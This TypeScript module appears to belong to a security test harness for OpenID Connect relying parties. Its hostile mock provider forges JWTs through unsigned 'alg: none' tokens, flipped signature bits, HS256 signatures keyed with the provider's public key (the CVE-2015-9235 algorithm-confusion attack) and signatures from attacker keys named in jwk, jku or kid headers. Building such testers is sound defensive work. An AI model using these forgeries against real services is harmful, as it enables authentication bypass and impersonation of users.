/**
 * How the hostile provider makes its tokens: every signature and encryption is jose's; only the unsigned
 * `alg: none` token is assembled by hand (base64url of two JSON objects, which jose refuses to make).
 */
import {
  CompactEncrypt,
  CompactSign,
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
  type JWTPayload,
  type ProtectedHeaderParameters,
} from 'jose'
import { publicJwk } from '../provider/keys.js'

/** A decoded JWS: its protected header and claims. */
export interface DecodedJwt {
  header: ProtectedHeaderParameters & Record<string, unknown>
  claims: JWTPayload & Record<string, unknown>
}

/** Decodes a compact JWS without verifying it (the proxy already trusts the mock that signed it). */
export function decodeJws(jws: string): DecodedJwt {
  return {
    header: decodeProtectedHeader(jws) as DecodedJwt['header'],
    claims: decodeJwt(jws) as DecodedJwt['claims'],
  }
}

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
const payloadOf = (claims: Record<string, unknown>) => new TextEncoder().encode(JSON.stringify(claims))

/** The provider key a token names by `kid` (or the first key for its `alg`). */
export function providerKeyFor(keys: readonly JWK[], header: DecodedJwt['header']): JWK {
  const key =
    keys.find((candidate) => candidate.kid === header.kid) ??
    keys.find((candidate) => candidate.alg === header.alg) ??
    keys[0]
  if (!key) throw new Error('the mock provider has no signing key')
  return key
}

/** Signs `claims` under `header` with the provider's own key: a signature the relying party will verify. */
export async function signAsProvider(
  keys: readonly JWK[],
  header: DecodedJwt['header'],
  claims: Record<string, unknown>,
): Promise<string> {
  const key = await importJWK(providerKeyFor(keys, header), header.alg)
  return new CompactSign(payloadOf(claims)).setProtectedHeader(header as { alg: string }).sign(key)
}

/** The token with one bit of its signature flipped (R15). */
export function flipSignatureBit(jws: string): string {
  const [header, payload, signature = ''] = jws.split('.')
  const bytes = Buffer.from(signature, 'base64url')
  bytes[bytes.length - 1] = (bytes[bytes.length - 1] ?? 0) ^ 1
  return `${header}.${payload}.${bytes.toString('base64url')}`
}

/** An unsigned token (`alg: none`, empty signature) with the original `kid` and `typ`. */
export function unsignedToken(header: DecodedJwt['header'], claims: Record<string, unknown>): string {
  const { kid, typ } = header
  return `${encode({ alg: 'none', ...(typ && { typ }), ...(kid && { kid }) })}.${encode(claims)}.`
}

/**
 * HS256 "signed" with the provider's public key as the HMAC secret (its SPKI PEM, the form a library that
 * takes "the key" as a string would use): the algorithm-confusion attack of CVE-2015-9235 and its kin.
 */
export async function hmacWithPublicKey(
  keys: readonly JWK[],
  header: DecodedJwt['header'],
  claims: Record<string, unknown>,
): Promise<string> {
  const jwk = publicJwk(providerKeyFor(keys, header))
  const publicKey = await importJWK(jwk, header.alg)
  if (publicKey instanceof Uint8Array) throw new Error('expected an asymmetric provider key')
  const pem = await exportSPKI(publicKey)
  return new CompactSign(payloadOf(claims))
    .setProtectedHeader({
      alg: 'HS256',
      ...(header.typ && { typ: header.typ }),
      ...(header.kid && { kid: header.kid }),
    })
    .sign(new TextEncoder().encode(pem))
}

/** A key pair of the attacker's, with its public JWK. */
export interface AttackerKey {
  privateKey: CryptoKey
  publicJwk: JWK
}

/** A fresh ES256 attacker key with `kid`. */
export async function attackerKey(kid: string): Promise<AttackerKey> {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true })
  return { privateKey, publicJwk: { ...(await exportJWK(publicKey)), kid, alg: 'ES256', use: 'sig' } }
}

/** Signs with the attacker's key under `header` (which may carry `jwk`, `jku` or a chosen `kid`). */
export async function signAsAttacker(
  key: CryptoKey | Uint8Array,
  header: Record<string, unknown> & { alg: string },
  claims: Record<string, unknown>,
): Promise<string> {
  return new CompactSign(payloadOf(claims)).setProtectedHeader(header).sign(key)
}

/** What a client registered for encrypted responses. */
export interface EncryptionRegistration {
  alg: string
  enc: string
}

/** The encryption a client registered for `kind` (ID token or userinfo), if any. */
export function encryptionOf(
  client: Record<string, unknown>,
  kind: 'id_token' | 'userinfo',
): EncryptionRegistration | undefined {
  const alg = client[`${kind}_encrypted_response_alg`]
  if (typeof alg !== 'string') return undefined
  const enc = client[`${kind}_encrypted_response_enc`]
  return { alg, enc: typeof enc === 'string' ? enc : 'A128CBC-HS256' }
}

/** The relying party's public encryption key for `alg`, from its registered `jwks` or `jwks_uri`. */
export async function encryptionKeyOf(client: Record<string, unknown>, alg: string): Promise<JWK> {
  let jwks = client.jwks as { keys?: JWK[] } | undefined
  if (!jwks && typeof client.jwks_uri === 'string') {
    const response = await fetch(client.jwks_uri, { signal: AbortSignal.timeout(5000) })
    jwks = (await response.json()) as { keys?: JWK[] }
  }
  const family = alg.startsWith('RSA') ? 'RSA' : 'EC'
  const key = jwks?.keys?.find(
    (candidate) =>
      candidate.kty === family &&
      (candidate.use === 'enc' || candidate.use === undefined) &&
      (candidate.alg === undefined || candidate.alg === alg),
  )
  if (!key)
    throw new Error(
      `client ${String(client.client_id)} registered ${alg} encryption but its jwks has no matching public key`,
    )
  return key
}

/** Encrypts `plaintext` (a JWS, or JSON for userinfo) to the relying party's key, as the mock would. */
export async function encryptFor(
  client: Record<string, unknown>,
  registration: EncryptionRegistration,
  plaintext: string,
  contentType: 'JWT' | undefined,
): Promise<string> {
  const jwk = await encryptionKeyOf(client, registration.alg)
  const key = await importJWK(jwk, registration.alg)
  return new CompactEncrypt(new TextEncoder().encode(plaintext))
    .setProtectedHeader({
      alg: registration.alg,
      enc: registration.enc,
      ...(contentType && { cty: contentType }),
      ...(jwk.kid && { kid: jwk.kid }),
    })
    .encrypt(key)
}
